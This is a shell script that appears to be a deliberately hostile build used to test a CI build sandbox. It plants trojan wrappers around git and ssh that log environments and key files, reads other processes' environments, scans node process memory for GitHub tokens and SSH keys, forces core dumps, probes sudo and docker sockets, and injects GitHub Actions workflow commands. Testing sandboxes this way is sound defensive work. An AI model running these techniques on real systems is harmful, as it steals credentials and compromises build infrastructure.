#!/bin/sh
# A hostile build (the acceptance test of the build sandbox runs it as `build-command`). It tries
# every way the sandbox must close, records what it reached in "$1", then builds as usual.
# Its programs are planted only in folders under "$2" (the test's own folder): the test machine is
# shared, and a test run against an unsandboxed build would otherwise replace them machine-wide;
# every other folder on PATH it could write is recorded in "$1/writable-path" instead.
set -u
out="$1"
plant_under="$2"
mkdir -p "$out"

# (a) its own git, ssh, … in every folder on PATH it can write: each logs how it was run, its
# environment and every file named in its arguments (ssh's -i key), then runs the real program.
for tool in git ssh ssh-keygen tar zstd bzip2 xz gzip opam; do
  real=$(command -v "$tool") || continue
  old_ifs=$IFS; IFS=:
  for dir in $PATH; do
    IFS=$old_ifs
    if [ ! -d "$dir" ] || [ ! -w "$dir" ]; then continue; fi
    case "$dir" in
      "$plant_under"/*) ;;
      *) echo "$dir" >> "$out/writable-path"; continue ;;
    esac
    [ "$dir/$tool" = "$real" ] && continue
    cat > "$dir/$tool" <<WRAPPER && chmod 755 "$dir/$tool" && echo "$dir/$tool" >> "$out/planted"
#!/bin/sh
{ echo "ran: \$0 \$*"; env; for a in "\$@"; do [ -f "\$a" ] && cat "\$a"; done; } >> "$out/planted-ran" 2>/dev/null
exec "$real" "\$@"
WRAPPER
  done
  IFS=$old_ifs
done

# (b) readers with a cleared environment, double-forked away from the build, polling for 45 s.
reader='
  out="$1"; end=$(($(date +%s) + 45))
  while [ "$(date +%s)" -lt "$end" ]; do
    for p in /proc/[0-9]*; do
      cat "$p/environ" "$p/cmdline" >> "$out/reader-proc" 2>/dev/null
    done
    find "$2" -type f -exec cat {} + >> "$out/reader-runner-temp" 2>/dev/null
    echo . >> "$out/reader-heartbeat"
    sleep 0.2
  done'
for _ in 1 2; do
  env -i PATH=/usr/bin:/bin sh -c '( sh -c "$1" reader "$2" "$3" < /dev/null > /dev/null 2>&1 & ) &' \
    spawn "$reader" "$out" "${RUNNER_TEMP:-/tmp}"
done

# (c) the memory of every node process it can see; (d) a core dump of the action's.
for p in /proc/[0-9]*; do
  [ "$(cat "$p/comm" 2>/dev/null)" = node ] || continue
  pid=${p#/proc/}
  echo "$pid $(tr '\0' ' ' < "$p/cmdline")" >> "$out/node-seen"
  while read -r range perms _rest; do
    case "$perms" in r*) ;; *) continue ;; esac
    start=$((0x${range%-*} / 4096)); count=$(((0x${range#*-} - 0x${range%-*}) / 4096))
    [ "$count" -le 16384 ] || continue
    dd if="$p/mem" bs=4096 skip="$start" count="$count" 2>/dev/null |
      grep -a -o -E 'github_pat_[0-9a-f]+|ghs_[0-9a-f]+|b3BlbnNzaC1rZXktdjE[A-Za-z0-9+/=]+' >> "$out/node-memory"
  done < "$p/maps"
  case "$(tr '\0' ' ' < "$p/cmdline")" in
    *dist/index.js*)
      prlimit --pid "$pid" --core=unlimited >> "$out/core-limit" 2>&1 && echo "raised $pid" >> "$out/core-limit"
      kill -SEGV "$pid" 2>/dev/null && echo "segv $pid" >> "$out/core-limit" ;;
  esac
done

# (e) root through sudo, the docker socket.
sudo -n true > /dev/null 2>&1 && echo "sudo worked" >> "$out/escalated"
for sock in /run/*.sock /var/run/*.sock; do
  [ -S "$sock" ] || continue
  curl -s -m 2 --unix-socket "$sock" http://localhost/version > /dev/null 2>&1
  echo "tried $sock" >> "$out/escalated"
done

# (f) workflow commands and the runner's files.
echo '::save-state name=credential-dirs::["/"]'
echo '::set-output name=deployed::hostile'
echo '::set-output name=image-sha256::hostile'
echo '::add-mask::hostile-mask'
echo "HOSTILE_ENV=1" >> "${GITHUB_ENV:-/dev/null}" 2>/dev/null
for f in /tmp/mirage-deploy-run-*/files/* "${RUNNER_TEMP:-/nonexistent}"/_runner_file_commands/*; do
  [ -f "$f" ] && echo "HOSTILE_ENV=1" >> "$f" 2>/dev/null && echo "$f" >> "$out/wrote-runner-files"
done

exec make build
